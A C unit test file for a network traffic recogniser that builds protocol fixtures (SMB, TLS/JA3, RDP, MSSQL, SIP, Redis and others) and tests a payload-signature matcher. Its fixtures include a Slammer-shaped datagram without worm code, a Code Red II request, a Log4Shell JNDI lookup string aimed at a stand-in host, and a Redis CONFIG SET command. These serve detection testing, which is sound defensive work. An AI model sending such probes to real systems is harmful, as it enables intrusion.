/* test_recog.c - the peek recognisers on byte fixtures built here from the
 * protocol specifications ([MS-SMB2], [MS-CIFS], RFC 1001/1002, DCE 1.1 RPC
 * and [MS-RPCE], RFC 5246/8446 and JA3, RFC 4253, [MS-RDPBCGR], [MS-TDS],
 * [MC-SQLR], RFC 854), and every prefix of each (truncated input must never
 * read out of bounds; ASan watches). */
#include "testutil.h"

#include "peek/patterns.h"
#include "peek/recog.h"
#include "util/md5.h"

struct buf {
	unsigned char b[2048];
	size_t n;
};

static void put(struct buf *b, const void *p, size_t n)
{
	assert_true(b->n + n <= sizeof b->b);
	memcpy(b->b + b->n, p, n);
	b->n += n;
}
static void u8(struct buf *b, unsigned v)
{
	unsigned char c = (unsigned char)v;
	put(b, &c, 1);
}
static void be16(struct buf *b, unsigned v)
{
	u8(b, v >> 8);
	u8(b, v & 0xff);
}
static void le16(struct buf *b, unsigned v)
{
	u8(b, v & 0xff);
	u8(b, v >> 8);
}
static void le32(struct buf *b, uint32_t v)
{
	le16(b, v & 0xffff);
	le16(b, v >> 16);
}
static void str(struct buf *b, const char *s)
{
	put(b, s, strlen(s));
}
static void zeros(struct buf *b, size_t n)
{
	static const unsigned char z[256];
	put(b, z, n);
}
/* Patch a big-endian 16-bit length at off. */
static void set_be16(struct buf *b, size_t off, unsigned v)
{
	b->b[off] = (unsigned char)(v >> 8);
	b->b[off + 1] = (unsigned char)v;
}

/* Recognise, and check every shorter prefix runs safely too: each one
 * copied to a block of exactly its size, so that ASan sees a read past it
 * (inside b's larger array, it would not). */
static const struct recog *rec(const struct buf *b, int proto, int port)
{
	static struct recog r;
	for (size_t k = 0; k < b->n; k++) {
		unsigned char *p = malloc(k ? k : 1);
		assert_non_null(p);
		memcpy(p, b->b, k);
		recognise(p, k, proto, port, &r);
		free(p);
	}
	recognise(b->b, b->n, proto, port, &r);
	return &r;
}

static void field_eq(const struct recog *r, const char *key, const char *want)
{
	const char *got = recog_get(r, key);
	if (!got || strcmp(got, want)) {
		fprintf(stderr, "field %s: got '%s', want '%s' (kind %s)\n", key, got ? got : "(none)",
			want, r->kind);
		fail();
	}
}

static void md5_vectors(void **state)
{
	(void)state;
	char hex[33];
	/* RFC 1321 appendix A.5 */
	assert_string_equal(md5_hex("", 0, hex), "d41d8cd98f00b204e9800998ecf8427e");
	assert_string_equal(md5_hex("abc", 3, hex), "900150983cd24fb0d6963f7d28e17f72");
	assert_string_equal(md5_hex("message digest", 14, hex), "f96b697d7cb7938d525a2f31aaf161d0");
	const char *s = "12345678901234567890123456789012345678901234567890123456789012345678901234567890";
	assert_string_equal(md5_hex(s, strlen(s), hex), "57edf4a22be3c955ac49da2e2107b67a");
	char a[1000];
	memset(a, 'a', sizeof a);
	assert_string_equal(md5_hex(a, sizeof a, hex), "cabe45dcc9ae5b66ba86600cca6b8ba8");
}

/* RFC 1001 14.1 first-level encoding, with its length byte and root label. */
static void nb_name(struct buf *b, const char *name, unsigned suffix)
{
	char pad[16];
	memset(pad, ' ', 15);
	memcpy(pad, name, strlen(name));
	pad[15] = (char)suffix;
	u8(b, 32);
	for (int i = 0; i < 16; i++) {
		u8(b, 'A' + (((unsigned char)pad[i]) >> 4));
		u8(b, 'A' + (pad[i] & 15));
	}
	u8(b, 0);
}

static void netbios_session_request(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 0x81), u8(&b, 0), be16(&b, 68);
	nb_name(&b, "PEEKHOST", 0x20);
	nb_name(&b, "SCANNER", 0x00);
	const struct recog *r = rec(&b, 6, 139);
	assert_string_equal(r->kind, "netbios-session-request");
	field_eq(r, "called", "PEEKHOST<20>");
	field_eq(r, "calling", "SCANNER<00>");
}

static void smb1_negotiate(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	static const char *const dialects[] = { "PC NETWORK PROGRAM 1.0", "NT LM 0.12", "SMB 2.002",
						"SMB 2.???" };
	u8(&b, 0), u8(&b, 0), be16(&b, 0); /* length patched below */
	str(&b, "\xffSMB"), u8(&b, 0x72);
	zeros(&b, 27);
	u8(&b, 0); /* WordCount */
	size_t bc = b.n;
	le16(&b, 0);
	for (int i = 0; i < 4; i++) {
		u8(&b, 2);
		put(&b, dialects[i], strlen(dialects[i]) + 1);
	}
	unsigned bytes = (unsigned)(b.n - bc - 2);
	b.b[bc] = (unsigned char)bytes, b.b[bc + 1] = (unsigned char)(bytes >> 8);
	set_be16(&b, 2, (unsigned)b.n - 4);
	const struct recog *r = rec(&b, 6, 445);
	assert_string_equal(r->kind, "smb1-negotiate");
	field_eq(r, "dialects", "PC NETWORK PROGRAM 1.0,NT LM 0.12,SMB 2.002,SMB 2.???");
}

static void smb2_negotiate(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 0), u8(&b, 0), be16(&b, 0);
	str(&b, "\xfeSMB"), le16(&b, 64), le16(&b, 0), le32(&b, 0);
	le16(&b, 0); /* NEGOTIATE */
	le16(&b, 1), le32(&b, 0), le32(&b, 0);
	zeros(&b, 8 + 4 + 4 + 8 + 16); /* MessageId .. Signature */
	assert_int_equal(b.n, 4 + 64);
	le16(&b, 36), le16(&b, 4), le16(&b, 1), le16(&b, 0), le32(&b, 0x7f);
	static const unsigned char guid[16] = { 0x78, 0x56, 0x34, 0x12, 0xbc, 0x9a, 0xf0, 0xde,
						1, 2, 3, 4, 5, 6, 7, 8 };
	put(&b, guid, 16);
	zeros(&b, 8);
	le16(&b, 0x0202), le16(&b, 0x0210), le16(&b, 0x0300), le16(&b, 0x0311);
	set_be16(&b, 2, (unsigned)b.n - 4);
	const struct recog *r = rec(&b, 6, 445);
	assert_string_equal(r->kind, "smb2-negotiate");
	field_eq(r, "dialects", "2.0.2,2.1,3.0,3.1.1");
	field_eq(r, "client_guid", "12345678-9abc-def0-0102-030405060708");
	field_eq(r, "security_mode", "0x0001 signing-enabled");
}

/* An interface UUID in NDR little-endian order. */
static void uuid_le(struct buf *b, uint32_t a, unsigned m, unsigned h, const unsigned char rest[8])
{
	le32(b, a), le16(b, m), le16(b, h);
	put(b, rest, 8);
}

static void dcerpc_bind(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 5), u8(&b, 0), u8(&b, 11), u8(&b, 3); /* bind, first+last frag */
	u8(&b, 0x10), u8(&b, 0), u8(&b, 0), u8(&b, 0); /* little-endian, ASCII, IEEE */
	le16(&b, 0), le16(&b, 0), le32(&b, 1);
	le16(&b, 5840), le16(&b, 5840), le32(&b, 0);
	u8(&b, 2), u8(&b, 0), le16(&b, 0);
	static const unsigned char sysact[8] = { 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
	static const unsigned char ndr[8] = { 0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60 };
	static const unsigned char lsa[8] = { 0xef, 0x00, 0x01, 0x23, 0x45, 0x67, 0x89, 0xab };
	le16(&b, 0), u8(&b, 1), u8(&b, 0);
	uuid_le(&b, 0x000001a0, 0, 0, sysact), le16(&b, 0), le16(&b, 0);
	uuid_le(&b, 0x8a885d04, 0x1ceb, 0x11c9, ndr), le32(&b, 2);
	le16(&b, 1), u8(&b, 1), u8(&b, 0);
	uuid_le(&b, 0x12345778, 0x1234, 0xabcd, lsa), le16(&b, 0), le16(&b, 0);
	uuid_le(&b, 0x8a885d04, 0x1ceb, 0x11c9, ndr), le32(&b, 2);
	b.b[8] = (unsigned char)b.n, b.b[9] = (unsigned char)(b.n >> 8);
	const struct recog *r = rec(&b, 6, 135);
	assert_string_equal(r->kind, "dcerpc-bind");
	field_eq(r, "interfaces",
		 "000001a0-0000-0000-c000-000000000046 v0.0,12345778-1234-abcd-ef00-0123456789ab v0.0");
	field_eq(r, "interface_names", "DCOM ISystemActivator,LSARPC (LSASS)");
	field_eq(r, "transfer_syntax", "NDR");
}

static void tls_client_hello(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 22), be16(&b, 0x0301), be16(&b, 0);
	u8(&b, 1), u8(&b, 0), be16(&b, 0); /* handshake length patched */
	be16(&b, 0x0303);
	zeros(&b, 32);
	u8(&b, 0);
	be16(&b, 6), be16(&b, 0x0a0a), be16(&b, 0x1301), be16(&b, 0xc02f);
	u8(&b, 1), u8(&b, 0);
	size_t ext = b.n;
	be16(&b, 0);
	be16(&b, 0x1a1a), be16(&b, 0); /* GREASE extension */
	be16(&b, 0), be16(&b, 17), be16(&b, 15), u8(&b, 0), be16(&b, 12), str(&b, "example.test");
	be16(&b, 10), be16(&b, 8), be16(&b, 6), be16(&b, 0x2a2a), be16(&b, 29), be16(&b, 23);
	be16(&b, 11), be16(&b, 2), u8(&b, 1), u8(&b, 0);
	be16(&b, 43), be16(&b, 5), u8(&b, 4), be16(&b, 0x0304), be16(&b, 0x0303);
	be16(&b, 16), be16(&b, 5), be16(&b, 3), u8(&b, 2), str(&b, "h2");
	set_be16(&b, ext, (unsigned)(b.n - ext - 2));
	set_be16(&b, 3, (unsigned)b.n - 5);
	set_be16(&b, 7, (unsigned)b.n - 9);
	const struct recog *r = rec(&b, 6, 443);
	assert_string_equal(r->kind, "tls-clienthello");
	field_eq(r, "version", "TLS 1.2");
	field_eq(r, "sni", "example.test");
	field_eq(r, "alpn", "h2");
	field_eq(r, "supported_versions", "TLS 1.3,TLS 1.2");
	field_eq(r, "ja3", "771,4865-49199,0-10-11-43-16,29-23,0");
	char hex[33];
	const char *ja3 = "771,4865-49199,0-10-11-43-16,29-23,0";
	field_eq(r, "ja3_md5", md5_hex(ja3, strlen(ja3), hex));
}

static void ssh_banner(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	str(&b, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n");
	const struct recog *r = rec(&b, 6, 22);
	assert_string_equal(r->kind, "ssh");
	field_eq(r, "protocol", "2.0");
	field_eq(r, "software", "OpenSSH_9.2p1");
	field_eq(r, "comments", "Debian-2+deb12u3");
}

static void rdp_request(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 3), u8(&b, 0), be16(&b, 0);
	u8(&b, 0), u8(&b, 0xe0), be16(&b, 0), be16(&b, 0), u8(&b, 0);
	str(&b, "Cookie: mstshash=administr\r\n");
	u8(&b, 1), u8(&b, 0), le16(&b, 8), le32(&b, 3);
	set_be16(&b, 2, (unsigned)b.n);
	b.b[4] = (unsigned char)(b.n - 5);
	const struct recog *r = rec(&b, 6, 3389);
	assert_string_equal(r->kind, "rdp-connection-request");
	field_eq(r, "mstshash", "administr");
	field_eq(r, "requested_protocols", "ssl,hybrid");
}

static void mssql_prelogin(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	u8(&b, 0x12), u8(&b, 1), be16(&b, 0), be16(&b, 0), u8(&b, 1), u8(&b, 0);
	/* five options of 5 bytes and the terminator: data starts at 26 */
	u8(&b, 0), be16(&b, 26), be16(&b, 6);
	u8(&b, 1), be16(&b, 32), be16(&b, 1);
	u8(&b, 2), be16(&b, 33), be16(&b, 7);
	u8(&b, 3), be16(&b, 40), be16(&b, 4);
	u8(&b, 4), be16(&b, 44), be16(&b, 1);
	u8(&b, 0xff);
	u8(&b, 15), u8(&b, 0), be16(&b, 2000), le16(&b, 0);
	u8(&b, 2);
	str(&b, "SQLEXP"), u8(&b, 0);
	le32(&b, 1234);
	u8(&b, 0);
	set_be16(&b, 2, (unsigned)b.n);
	const struct recog *r = rec(&b, 6, 1433);
	assert_string_equal(r->kind, "mssql-prelogin");
	field_eq(r, "client_version", "15.0.2000");
	field_eq(r, "encryption", "not-supported");
	field_eq(r, "instance", "SQLEXP");
}

/* The shape Slammer had: 0x04, no terminating NUL, 376 bytes, with the byte
 * strings the IDS rule looks for.  Not the worm: filler where its code was. */
static void slammer_shaped(struct buf *b)
{
	b->n = 0;
	u8(b, 4);
	while (b->n < 100)
		u8(b, 1);
	put(b, "\x81\xf1\x03\x01\x04\x9b\x81\xf1\x01", 9);
	str(b, "hsockhsend");
	while (b->n < 376)
		u8(b, 0x90);
}

static void ssrp(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	slammer_shaped(&b);
	const struct recog *r = rec(&b, 17, 1434);
	assert_string_equal(r->kind, "ssrp-overflow");
	field_eq(r, "datagram_length", "376");
	b.n = 0;
	u8(&b, 4), str(&b, "MSSQLSERVER"), u8(&b, 0);
	r = rec(&b, 17, 1434);
	assert_string_equal(r->kind, "ssrp-instance");
	field_eq(r, "instance", "MSSQLSERVER");
	b.n = 0;
	u8(&b, 2);
	assert_string_equal(rec(&b, 17, 1434)->kind, "ssrp-broadcast");
	/* Elsewhere one byte proves nothing. */
	assert_string_equal(rec(&b, 17, 5000)->kind, "");
}

static void nbns_nbstat(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	be16(&b, 0x1234), be16(&b, 0), be16(&b, 1), be16(&b, 0), be16(&b, 0), be16(&b, 0);
	char star[16] = { '*' }; /* "*" padded with NULs, as nbtstat -A sends */
	u8(&b, 32);
	for (int i = 0; i < 16; i++)
		u8(&b, 'A' + ((unsigned char)star[i] >> 4)), u8(&b, 'A' + (star[i] & 15));
	u8(&b, 0), be16(&b, 0x21), be16(&b, 1);
	const struct recog *r = rec(&b, 17, 137);
	assert_string_equal(r->kind, "nbns-nbstat");
	field_eq(r, "name", "*<00>");
}

static void http_request(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	str(&b, "GET /a\x1b[31mb HTTP/1.1\r\nhost: peek.test\r\nUser-Agent: curl/7.88.1\r\n"
		"Accept: */*\r\n\r\n");
	const struct recog *r = rec(&b, 6, 8080);
	assert_string_equal(r->kind, "http");
	field_eq(r, "method", "GET");
	field_eq(r, "path", "/a\\x1b[31mb");
	field_eq(r, "host", "peek.test");
	field_eq(r, "user_agent", "curl/7.88.1");
}

static void telnet_sip_redis_text(void **state)
{
	(void)state;
	struct buf b = { .n = 0 };
	put(&b, "\xff\xfd\x18\xff\xfd\x20\xff\xfb\x1f", 9);
	const struct recog *r = rec(&b, 6, 23);
	assert_string_equal(r->kind, "telnet");
	field_eq(r, "options", "DO 24,DO 32,WILL 31");

	b.n = 0;
	str(&b, "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5060\r\n"
		"From: \"sipvicious\"<sip:100@1.1.1.1>;tag=1\r\nUser-Agent: friendly-scanner\r\n\r\n");
	r = rec(&b, 17, 5060);
	assert_string_equal(r->kind, "sip");
	field_eq(r, "method", "OPTIONS");
	field_eq(r, "user_agent", "friendly-scanner");

	b.n = 0;
	str(&b, "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n");
	r = rec(&b, 6, 6379);
	assert_string_equal(r->kind, "redis");
	field_eq(r, "command", "CONFIG");
	field_eq(r, "argument", "SET");

	b.n = 0;
	str(&b, "HELP\r\n");
	r = rec(&b, 6, 4000);
	assert_string_equal(r->kind, "text");
	field_eq(r, "first_line", "HELP");

	b.n = 0;
	put(&b, "\x00\x01\x02\x03", 4);
	assert_int_equal(recognise(b.b, b.n, 6, 4000, (struct recog *)rec(&b, 6, 4000)), 0);
}

static void payload_patterns(void **state)
{
	(void)state;
	char err[256], names[256];
	struct patterns *ps = patterns_load("data/payloads", err, sizeof err);
	if (!ps)
		fprintf(stderr, "%s\n", err);
	assert_non_null(ps);
	assert_true(patterns_count(ps) >= 10);
	struct buf b = { .n = 0 };
	slammer_shaped(&b);
	assert_int_equal(patterns_match(ps, b.b, b.n, 17, 1434, names, sizeof names), 1);
	assert_string_equal(names, "slammer");
	/* Same bytes on another port or over TCP: the pattern is for 1434/udp. */
	assert_int_equal(patterns_match(ps, b.b, b.n, 17, 53, names, sizeof names), 0);
	assert_int_equal(patterns_match(ps, b.b, b.n, 6, 1434, names, sizeof names), 0);
	b.b[0] = 5; /* anchored at offset 0 */
	assert_int_equal(patterns_match(ps, b.b, b.n, 17, 1434, names, sizeof names), 0);
	const char *cr = "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090 HTTP/1.0\r\n\r\n";
	assert_int_equal(patterns_match(ps, (const unsigned char *)cr, strlen(cr), 6, 80, names,
					sizeof names), 1);
	assert_string_equal(names, "code-red-ii");
	const char *l4 = "GET / HTTP/1.1\r\nUser-Agent: ${JNDI:ldap://x/a}\r\n\r\n";
	assert_int_equal(patterns_match(ps, (const unsigned char *)l4, strlen(l4), 6, 8080, names,
					sizeof names), 1);
	assert_string_equal(names, "log4shell");
	patterns_free(ps);

	/* A broken file is refused with its line. */
	char *dir = test_tmpdir(), path[300];
	snprintf(path, sizeof path, "%s/p", dir);
	write_file(path, "# c\nok | tcp any | \"x\" | r\nbad | tcp any | |zz| | r\n");
	assert_null(patterns_load(path, err, sizeof err));
	assert_non_null(strstr(err, ":3: "));
	write_file(path, "bad | icmp any | \"x\" | r\n");
	assert_null(patterns_load(path, err, sizeof err));
	rm_rf(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(md5_vectors),
		cmocka_unit_test(netbios_session_request),
		cmocka_unit_test(smb1_negotiate),
		cmocka_unit_test(smb2_negotiate),
		cmocka_unit_test(dcerpc_bind),
		cmocka_unit_test(tls_client_hello),
		cmocka_unit_test(ssh_banner),
		cmocka_unit_test(rdp_request),
		cmocka_unit_test(mssql_prelogin),
		cmocka_unit_test(ssrp),
		cmocka_unit_test(nbns_nbstat),
		cmocka_unit_test(http_request),
		cmocka_unit_test(telnet_sip_redis_text),
		cmocka_unit_test(payload_patterns),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
